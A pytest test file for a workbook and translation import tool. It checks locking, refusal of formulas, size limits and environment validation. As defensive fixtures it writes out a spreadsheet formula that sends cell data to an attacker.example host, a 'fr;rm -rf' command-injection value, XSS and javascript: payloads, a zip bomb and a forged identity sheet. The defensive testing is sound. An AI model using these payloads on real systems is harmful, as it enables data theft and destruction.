"""Imports that never lose data (issue 23): one serialised writer, workbooks without formulas, cells read as shown,
bounded and malformed files refused in one line, odd line breaks and NFD statuses handled by one rule."""
from __future__ import annotations

import csv
import html as htmllib
import re
import os
import shutil
import subprocess
import sys
import time
import unicodedata
import zipfile
from pathlib import Path

import openpyxl
import polib
import pytest

from macros.system_tools import CALC
import yaml

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
sys.path.insert(0, str(ROOT / "tests"))

from test_report_kit import PERIOD, environment, fill, fresh_data, kit, owned_first, run  # noqa: E402,F401

from macros.exchange import kit_layout, writer, yamledit  # noqa: E402

IMPORT = "macros.exchange.import_updates"


def updates_of(data: Path) -> dict:
    """(activity id, period) -> update, read from the YAML directly."""
    raw = yaml.safe_load(data.read_text(encoding="utf-8"))
    return {(a["id"], u["period"]): u for p in raw["pillars"] for oc in p["outcomes"] for op in oc["outputs"]
            for a in op["activities"] for u in a.get("updates", [])}


# --- One writer, serialised and checked --------------------------------------------------------------------

def test_two_imports_started_together_never_lose_an_update(kit, tmp_path):
    """Ten times: two workbooks of two owners imported at the same moment. Both land, or one is refused clearly."""
    glc_id, training_id = owned_first(kit, "glc"), owned_first(kit, "training-wg")
    for attempt in range(10):
        work = tmp_path / f"run{attempt}"
        work.mkdir()
        data = fresh_data(work)
        books = [fill(kit / "glc.xlsx", work / "glc.xlsx", {glc_id: {"D": "Terminé", "E": "2025-02-01", "F": "Fait."}}),
                 fill(kit / "training-wg.xlsx", work / "training-wg.xlsx",
                      {training_id: {"D": "En cours", "E": "2025-02-02", "G": "Started."}})]
        env = environment(data, work)
        processes = [subprocess.Popen([sys.executable, "-m", IMPORT, str(b)], cwd=ROOT, env=env, text=True,
                                      stdout=subprocess.PIPE, stderr=subprocess.PIPE) for b in books]
        results = [(p.wait(120), *p.communicate()) for p in processes]
        found = updates_of(data)
        for (code, out, err), key in zip(results, [(glc_id, PERIOD), (training_id, PERIOD)]):
            if code == 0:
                assert "updated." in out and key in found, (out, err)
            else:  # a refusal is allowed, a silent loss is not
                assert "changed while importing; nothing written, run the import again" in err and key not in found, err


def test_a_change_made_while_importing_is_refused_and_nothing_is_written(tmp_path):
    data = fresh_data(tmp_path)
    document = yamledit.load(data)
    document["meta"]["version"] = "2099-01"
    with writer.writing(data, doing="writer_importing", again="writer_the_import"):
        # Someone saves the file by hand (no lock) while the import is working.
        edited = data.read_text(encoding="utf-8").replace("status_as_of:", "status_as_of: ", 1)
        data.write_text(edited, encoding="utf-8")
        with pytest.raises(writer.Changed, match=r"sip\.yaml changed while importing; nothing written, run the import again"):
            yamledit.write_if_valid(data, yamledit.dump(document))
    assert data.read_text(encoding="utf-8") == edited


def test_a_second_writer_waits_for_the_lock(tmp_path):
    data = fresh_data(tmp_path)
    code = ("import sys, time; sys.path.insert(0, sys.argv[2]); from pathlib import Path; from macros.exchange import writer\n"
            "with writer.writing(Path(sys.argv[1])):\n    print('held', flush=True); time.sleep(1.5)\n")
    holder = subprocess.Popen([sys.executable, "-c", code, str(data), str(ROOT)], stdout=subprocess.PIPE, text=True)
    assert holder.stdout.readline().strip() == "held"
    start = time.monotonic()
    with writer.writing(data):
        waited = time.monotonic() - start
    holder.wait(30)
    assert waited > 0.5  # it waited for the other process's lock


# --- No formula ever leaves the project --------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://attacker.example/?"&F2,"Ouvrir")', "=1+1", "+1+1", "-1+1", "@SUM(1,1)"]


@pytest.fixture(scope="module")
def formula_kit(tmp_path_factory):
    """A plan whose texts start like formulas, its kit, and the make check output."""
    work = tmp_path_factory.mktemp("formulas")
    raw = (ROOT / "data" / "sip.yaml").read_text(encoding="utf-8")
    data = yaml.safe_load(raw)
    activities = [a for p in data["pillars"] for oc in p["outcomes"] for op in oc["outputs"] for a in op["activities"]
                  if "glc" in [o if isinstance(o, str) else o["id"] for o in a["owners"]]]
    for activity, formula in zip(activities, FORMULAS):
        # Prefixed, so that the editor's notes still find their quotes.
        activity["text"] = {lang: f"{formula} {activity['text'][lang]}" for lang in ("fr", "en")}
    data["statuses"][0]["label"]["en"] = "=2+2"
    path = work / "sip.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True, sort_keys=False, width=10_000), encoding="utf-8")
    env = environment(path, work / "report-kit")
    checked = run("macros.data.check", env=env)
    made = run("macros.exchange.report_kit", PERIOD, env=env)
    assert made.returncode == 0, made.stderr
    return work, path, checked, [a["id"] for a in activities[: len(FORMULAS)]], env


def test_make_check_warns_of_texts_starting_like_a_formula_naming_the_line(formula_kit):
    work, path, checked, ids, env = formula_kit
    assert checked.returncode == 0, checked.stderr
    lines = path.read_text(encoding="utf-8").splitlines()
    warned = [line for line in checked.stderr.splitlines() if "which a spreadsheet reads as a formula" in line]
    assert len(warned) == 2 * len(FORMULAS) + 1
    for warning in warned:
        number = int(warning.split(":")[1])
        assert lines[number - 1].lstrip().startswith(("fr:", "en:")) and any(c in lines[number - 1] for c in "=+-@")


def test_every_cell_the_kit_writes_is_a_string_never_a_formula(formula_kit):
    work, path, checked, ids, env = formula_kit
    books = sorted((work / "report-kit" / PERIOD).glob("*.xlsx"))
    assert books
    seen = set()
    for book_path in books:
        book = openpyxl.load_workbook(book_path)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.value is not None:
                        assert cell.data_type != "f", (book_path.name, sheet.title, cell.coordinate, cell.value)
                        if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                            seen.add(cell.value.split("\n")[0])
        # The raw XML too: no <f> element anywhere.
        with zipfile.ZipFile(book_path) as archive:
            for name in archive.namelist():
                if name.startswith("xl/worksheets/"):
                    assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name), (book_path, name)
    assert all(any(value.startswith(f + " ") for value in seen) for f in FORMULAS) and "=2+2" in seen


def test_libreoffice_evaluates_no_formula_in_the_kit(formula_kit, tmp_path):
    work, path, checked, ids, env = formula_kit
    book = work / "report-kit" / PERIOD / "glc.xlsx"
    home = tmp_path / "home"
    for target in ("csv:Text - txt - csv (StarCalc):44,34,76,1", "xlsx:Calc MS Excel 2007 XML"):
        result = subprocess.run([CALC.found() or "soffice", "--headless", "--norestore", f"-env:UserInstallation=file://{home}",
                                 "--convert-to", target, "--outdir", str(tmp_path / "lo"), str(book)],
                                capture_output=True, text=True, timeout=180)
        assert result.returncode == 0, result.stderr
    with (tmp_path / "lo" / "glc.csv").open(encoding="utf-8", newline="") as handle:
        cells = {row[0]: row for row in csv.reader(handle) if row}
    for ident, formula in zip(ids, FORMULAS):
        assert cells[ident][1].startswith(formula), cells[ident]  # the text as written, not its result
    # Saved again by LibreOffice: still text cells in every sheet, hidden ones included.
    saved = openpyxl.load_workbook(tmp_path / "lo" / "glc.xlsx")
    assert not [(s.title, c.coordinate) for s in saved.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert "=2+2" in [c.value for c in saved["lists"]["A"]]


def test_a_workbook_whose_texts_start_like_formulas_is_imported(formula_kit, tmp_path):
    work, path, checked, ids, env = formula_kit
    book = fill(work / "report-kit" / PERIOD / "glc.xlsx", tmp_path / "glc.xlsx",
                {ids[0]: {"D": "=2+2", "E": "2025-02-01", "F": "Fait."}}, edit=_as_text("updates", f"D"))
    result = run(IMPORT, str(book), env=dict(env, SIP_DATA=str(_copy(path, tmp_path))))
    assert result.returncode == 0, result.stderr


def _copy(path: Path, folder: Path) -> Path:
    target = folder / "sip.yaml"
    shutil.copyfile(path, target)
    return target


def _as_text(sheet: str, column: str):
    """The owner picked the status from the drop-down: a text cell, even if it starts with '='."""
    def edit(book):
        for cell in book[sheet][column]:
            if isinstance(cell.value, str):
                cell.data_type = "s"
    return edit


# --- Cells hold what people see; errors name the right cell -------------------------------------------------

def _refused(kit, tmp_path, owner, entries, edit=None):
    data = fresh_data(tmp_path)
    before = data.read_bytes()
    book = fill(kit / f"{owner}.xlsx", tmp_path / f"{owner}.xlsx", entries, edit)
    result = run(IMPORT, str(book), env=environment(data, tmp_path))
    assert result.returncode == 1, result.stdout
    assert data.read_bytes() == before and "Traceback" not in result.stderr
    return book, result.stderr.splitlines()


@pytest.mark.parametrize("column, value", [("D", "=A1"), ("E", "=DATE(2025,2,1)"), ("F", '=HYPERLINK("http://x.example","x")'),
                                           ("G", "=B2")])
def test_a_formula_cell_is_refused_with_its_cell_and_a_plain_instruction(kit, tmp_path, column, value):
    ident = owned_first(kit, "glc")
    entries = {"D": "Terminé", "E": "2025-02-01", "F": "Fait."}
    entries[column] = value
    book, lines = _refused(kit, tmp_path, "glc", {ident: entries})
    row = openpyxl.load_workbook(book)["updates"]
    number = next(c.row for c in row["A"] if c.value == ident)
    assert f"{book}: updates!{column}{number}: holds a formula ('{value[:39]}" in "\n".join(lines)
    assert "(type the text; a leading = makes Excel read it as a formula)" in "\n".join(lines)


def test_a_value_outside_the_columns_or_a_lone_date_is_never_dropped_silently(kit, tmp_path):
    ident = owned_first(kit, "glc")
    book, lines = _refused(kit, tmp_path, "glc", {ident: {"E": "2025-02-01", "H": "une remarque"}})
    text = "\n".join(lines)
    assert "updates!H2: holds 'une remarque' outside the columns the import reads (A-G)" in text
    assert "updates!E2: activity " + ident + ": a date without a new status or a note" in text


@pytest.mark.parametrize("column, note, message", [
    ("G", "See [the page](javascript:alert(1)).", "link to 'javascript:"),
    ("F", "x" * 4001, "'note.fr' is"),
    ("G", "\u200b\u200b", "holds only invisible characters"),
    ("F", "Première ligne\x85seconde", "holds the line break U+0085 (NEXT LINE)"),
    ("G", "First\u2028second", "holds the line break U+2028 (LINE SEPARATOR)"),
])
def test_a_problem_with_a_note_is_reported_at_the_notes_cell(kit, tmp_path, column, note, message):
    ident = owned_first(kit, "glc")
    book, lines = _refused(kit, tmp_path, "glc", {ident: {"D": "Terminé", "E": "2025-02-01", column: note}})
    located = [line for line in lines if message in line]
    assert located and all(line.startswith(f"{book}: updates!{column}2: activity {ident}: ") for line in located), lines


def test_a_status_typed_with_a_combining_accent_is_accepted(kit, tmp_path):
    data = fresh_data(tmp_path)
    ident = owned_first(kit, "glc")
    decomposed = unicodedata.normalize("NFD", "Terminé")
    assert decomposed != "Terminé"
    book = fill(kit / "glc.xlsx", tmp_path / "glc.xlsx", {ident: {"D": decomposed, "E": "2025-02-01", "F": "Fait."}})
    result = run(IMPORT, str(book), env=environment(data, tmp_path))
    assert result.returncode == 0, result.stderr
    assert updates_of(data)[(ident, PERIOD)]["status"] == "completed"


def test_the_summary_says_the_identity_catches_accidents_not_forgery_and_who_each_workbook_claims_to_be(kit, tmp_path):
    """A partnerships-wg workbook relabelled as training-wg with its fingerprint recomputed is accepted: the summary
    says so plainly and names the owner it claims to be, for the reviewer of the data change."""
    data = fresh_data(tmp_path)
    source = openpyxl.load_workbook(kit / "training-wg.xlsx")
    ident = source["updates"]["A2"].value

    def forge(book):
        sheet = book["kit"]
        rows = [tuple(sheet.cell(i, j).value or "" for j in (1, 2, 3))
                for i in range(kit_layout.FIRST_ACTIVITY_ROW, sheet.max_row + 1)]
        sheet["B6"] = kit_layout.fingerprint(sheet["B2"].value, sheet["B3"].value, [r for r in rows if any(r)])

    book = fill(kit / "training-wg.xlsx", tmp_path / "from-someone-else.xlsx",
                {ident: {"D": "Terminé", "E": "2025-02-01", "F": "Fait."}}, edit=forge)
    result = run(IMPORT, str(book), env=environment(data, tmp_path))
    assert result.returncode == 0, result.stderr
    assert "the identity sheet catches accidents, not forgery" in result.stdout
    assert f"  {book}: owner 'training-wg', Training WG, {PERIOD}" in result.stdout, result.stdout


# --- Bounded imports and malformed files: one line, no traceback, fast ------------------------------------

def _one_line_refusal(result, name):
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.splitlines()[0].startswith(f"{name}: "), result.stderr


def test_a_workbook_declaring_a_million_rows_is_refused_before_it_is_read(kit, tmp_path):
    data = fresh_data(tmp_path)
    big = tmp_path / "big.xlsx"
    with zipfile.ZipFile(kit / "glc.xlsx") as source, zipfile.ZipFile(big, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                head, _, rest = content.partition(b"<sheetData>")
                head = re.sub(rb'<dimension ref="[^"]*"', b'<dimension ref="A1:G1000000"', head)
                junk = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
                                for i in range(100, 100_100))
                content = head + b"<sheetData>" + rest.replace(b"</sheetData>", junk + b"</sheetData>", 1)
            target.writestr(item, content)
    result = run(IMPORT, str(big), env=environment(data, tmp_path))
    _one_line_refusal(result, str(big))
    assert "declares 1,000,000 rows, more than a report workbook for this plan can hold" in result.stderr


def test_a_zip_bomb_is_refused_from_its_directory(kit, tmp_path):
    data = fresh_data(tmp_path)
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(kit / "glc.xlsx") as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            target.writestr(item, source.read(item))
        target.writestr("xl/media/filler.bin", b"\0" * 300_000_000)  # 300 MB of zeros, 0.3 MB compressed
    assert bomb.stat().st_size < 2_000_000
    result = run(IMPORT, str(bomb), env=environment(data, tmp_path))
    _one_line_refusal(result, str(bomb))
    assert "once decompressed, more than a report workbook for this plan can hold" in result.stderr


@pytest.mark.parametrize("spoil", ["not_a_zip", "truncated", "empty", "zip_of_junk", "damaged_sheet"])
def test_a_malformed_workbook_gives_one_line_naming_it(kit, tmp_path, spoil):
    data = fresh_data(tmp_path)
    target = tmp_path / f"{spoil}.xlsx"
    good = (kit / "glc.xlsx").read_bytes()
    if spoil == "not_a_zip":
        target.write_text("a,b,c\n1,2,3\n", encoding="utf-8")
    elif spoil == "truncated":
        target.write_bytes(good[: len(good) // 2])
    elif spoil == "empty":
        target.write_bytes(b"")
    elif spoil == "zip_of_junk":
        with zipfile.ZipFile(target, "w") as archive:
            archive.writestr("hello.txt", "hi")
    else:
        with zipfile.ZipFile(kit / "glc.xlsx") as source, zipfile.ZipFile(target, "w") as out:
            for item in source.infolist():
                content = source.read(item)
                out.writestr(item, content[: len(content) // 2] if item.filename.startswith("xl/worksheets/") else content)
    result = run(IMPORT, str(target), env=environment(data, tmp_path))
    _one_line_refusal(result, str(target))
    assert "cannot be read" in result.stderr and len(result.stderr.splitlines()) == 2


def _po(tmp_path: Path, data: Path, msgstr: str) -> Path:
    raw = yaml.safe_load(data.read_text(encoding="utf-8"))
    pillar = raw["pillars"][0]
    po = polib.POFile(wrapwidth=0)
    po.metadata = {"Content-Type": "text/plain; charset=UTF-8"}
    po.append(polib.POEntry(msgctxt=f"pillars/{pillar['id']}/goal", msgid=pillar["goal"]["fr"].strip(), msgstr=msgstr))
    path = tmp_path / "t.po"
    po.save(str(path))
    return path


def test_a_huge_po_file_is_refused_by_its_size(tmp_path):
    data = fresh_data(tmp_path)
    po = _po(tmp_path, data, "x" * 50_000_000)
    result = run("macros.exchange.translations", "import", str(po), env=environment(data, tmp_path))
    _one_line_refusal(result, f"{po}:1")
    assert "more than a translation of this plan can be" in result.stderr
    assert data.read_bytes() == (ROOT / "data" / "sip.yaml").read_bytes()


def test_a_po_entry_longer_than_any_text_is_refused_at_its_line(tmp_path):
    data = fresh_data(tmp_path)
    po = _po(tmp_path, data, "word " * 1000)
    entry_line = next(i for i, line in enumerate(po.read_text(encoding="utf-8").splitlines(), 1) if line.startswith("msgctxt"))
    result = run("macros.exchange.translations", "import", str(po), env=environment(data, tmp_path))
    _one_line_refusal(result, f"{po}:{entry_line}")
    assert "longer than 4,000 characters" in result.stderr


def test_a_po_translation_over_a_fields_limit_is_refused_at_the_po_entry(tmp_path):
    """A plain field holds 300 characters: the data's refusal is reported at the PO entry, not at sip.yaml:1:1."""
    data = fresh_data(tmp_path)
    raw = yaml.safe_load(data.read_text(encoding="utf-8"))
    po = polib.POFile(wrapwidth=0)
    po.metadata = {"Content-Type": "text/plain; charset=UTF-8"}
    pillar = raw["pillars"][0]
    po.append(polib.POEntry(msgctxt=f"pillars/{pillar['id']}/title", msgid=pillar["title"]["fr"], msgstr="y" * 301))
    path = tmp_path / "title.po"
    po.save(str(path))
    result = run("macros.exchange.translations", "import", str(path), env=environment(data, tmp_path))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert f"{path}:" in result.stderr and f"'pillars/{pillar['id']}/title'" in result.stderr, result.stderr
    assert "sip.yaml:1:1" not in result.stderr


@pytest.mark.parametrize("content", [b"\x89PNG\r\n\x1a\n\0\0\0binary", b'msgid "unterminated\nmsgstr ""\n',
                                     "é".encode("latin-1") * 10, b"just some words\n"])
def test_a_malformed_po_file_gives_one_line_naming_it(tmp_path, content):
    data = fresh_data(tmp_path)
    po = tmp_path / "bad.po"
    po.write_bytes(content)
    result = run("macros.exchange.translations", "import", str(po), env=environment(data, tmp_path))
    assert result.returncode == 1 and "Traceback" not in result.stderr, result.stderr
    assert result.stderr.splitlines()[0].startswith(f"{po}:"), result.stderr
    assert data.read_bytes() == (ROOT / "data" / "sip.yaml").read_bytes()


# --- Odd line breaks: one rule in make check and in the import -------------------------------------------------

@pytest.mark.parametrize("char, name", [("\\x85", "U+0085"), ("\\u2028", "U+2028"), ("\\u2029", "U+2029")])
def test_make_check_refuses_odd_line_breaks_at_their_line(tmp_path, char, name):
    data = fresh_data(tmp_path)
    lines = data.read_text(encoding="utf-8").splitlines(keepends=True)
    number = next(i for i, line in enumerate(lines) if line.startswith("    fr: ") and "activit" not in line)
    lines[number] = '    fr: "Un texte' + char + 'coupé"\n'
    data.write_text("".join(lines), encoding="utf-8")
    result = run("macros.data.check", env=environment(data, tmp_path))
    assert result.returncode == 1
    assert f"{data}:{number + 1}:" in result.stderr and f"holds the line break {name}" in result.stderr, result.stderr


# --- Every environment input checked before anything starts ------------------------------------------------

BAD_ENVIRONMENT = [
    ("SITE_URL", '"><img src=x onerror=alert(1)>'), ("SITE_URL", "javascript:alert(1)"), ("SITE_URL", "https://a b.org/"),
    ("SITE_URL", "https://example.org/\\x"), ("SITE_URL", "'https://example.org/'"), ("SITE_URL", "example.org"),
    ("SITE_URL", "https://example.org/?q=<x>"), ("SIP_DATA", "/no/such/file.yaml"), ("SIP_DATA", "README.md"),
    ("SIP_BUILD_TIMEOUT", "ten"), ("SIP_BUILD_TIMEOUT", "-5"), ("SIP_BUILD_TIMEOUT", "nan"), ("SIP_BUILD_TIMEOUT", "1e9"),
    ("SIP_LANGUAGE", "de"), ("SIP_LANGUAGE", "fr;rm -rf"), ("SIP_OFFLINE", "yes please"), ("SOURCE_DATE_EPOCH", "-1"),
    ("SOURCE_DATE_EPOCH", "1.5"), ("SOURCE_DATE_EPOCH", "99999999999999"), ("SIP_TODAY", "2025-13-01"),
    ("SIP_TODAY", "tomorrow"), ("SIP_REPORT_KIT_DIR", "README.md"), ("SIP_SERVE", "yes"),
]
COMMANDS = [[sys.executable, "scripts/build.py"], [sys.executable, "-m", "macros.data.check"],
            [sys.executable, "-m", IMPORT, "x.xlsx"], [sys.executable, "-m", "macros.exchange.translations", "update"],
            [sys.executable, "-m", "macros.exchange.report_kit", PERIOD]]


@pytest.mark.parametrize("name, value", BAD_ENVIRONMENT, ids=[f"{n}={v}" for n, v in BAD_ENVIRONMENT])
def test_a_bad_environment_value_is_refused_in_one_line_before_anything_runs(name, value):
    env = {k: v for k, v in os.environ.items() if k not in {n for n, _ in BAD_ENVIRONMENT}}
    env[name] = value
    for command in COMMANDS if name == "SITE_URL" else COMMANDS[:2]:
        result = subprocess.run(command, cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
        assert result.returncode == 2, (command, result.stderr)
        assert result.stderr.splitlines() == [f"environment: {name}={value!r}: " + result.stderr.split(": ", 2)[2].strip()]
        assert "Traceback" not in result.stderr


@pytest.mark.parametrize("value", ["https://example.org/", "http://127.0.0.1:8000/sip/", "https://logcluster.github.io/sip-2022-2026"])
def test_a_good_site_url_is_accepted(value):
    from macros import environment as variables
    assert variables.problems({"SITE_URL": value}) == []


def test_the_readme_lists_every_variable_the_code_reads():
    from macros import environment as variables
    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("### Environment variables", 1)[1].split("\n## ", 1)[0]
    read = set()
    for path in [*ROOT.glob("macros/**/*.py"), *ROOT.glob("scripts/*.py"), *ROOT.glob("overrides/hooks/*.py"), ROOT / "mkdocs.yml"]:
        text = path.read_text(encoding="utf-8")
        read |= set(re.findall(r"os\.environ(?:\.get|\.setdefault|\.pop)?\(?\[?\"([A-Z_0-9]+)\"", text)) | set(re.findall(r"!ENV \[([A-Z_0-9]+)", text))
        read |= set(re.findall(r"getenv\(\"([A-Z_0-9]+)\"", text))
    ours = {v for v in read if not v.startswith("SIP_BENCH") and v != "NO_MKDOCS_2_WARNING"}
    assert ours <= set(variables.VARIABLES), ours - set(variables.VARIABLES)
    for name in variables.VARIABLES:
        assert f"`{name}`" in section, name


# --- Text shapes: extension blocks from the data are text --------------------------------------------------

@pytest.mark.parametrize("text", ["!!! danger \"Alerte\"\nCliquez ici.", "??? note\nCaché.", "???+ note ouvert\nx",
                                  "  !!! warning\n    indenté", "/// details | Titre\nx\n///", "Texte\n!!! danger\nsuite"])
def test_admonition_and_block_syntax_at_a_line_start_is_shown_as_text(text):
    import markdown
    from macros.views.render import md, plain
    config = yaml.safe_load((ROOT / "mkdocs.yml").read_text(encoding="utf-8").split("\nmarkdown_extensions:", 1)[1]
                            .split("\n\n", 1)[0].replace("!ENV", ""))
    extensions = [e if isinstance(e, str) else next(iter(e)) for e in config if e != "macros.views.abbr_linear"]
    for rendered in (md(text), plain(text)):
        html = markdown.markdown(str(rendered), extensions=extensions)
        assert "admonition" not in html and "<details" not in html and "<div" not in html, html
        shown = htmllib.unescape(re.sub(r"<[^>]+>", "", html))  # what a reader sees: the marks as typed
        assert ("!!!" in text) <= ("!!!" in shown) and ("???" in text) <= ("???" in shown), shown
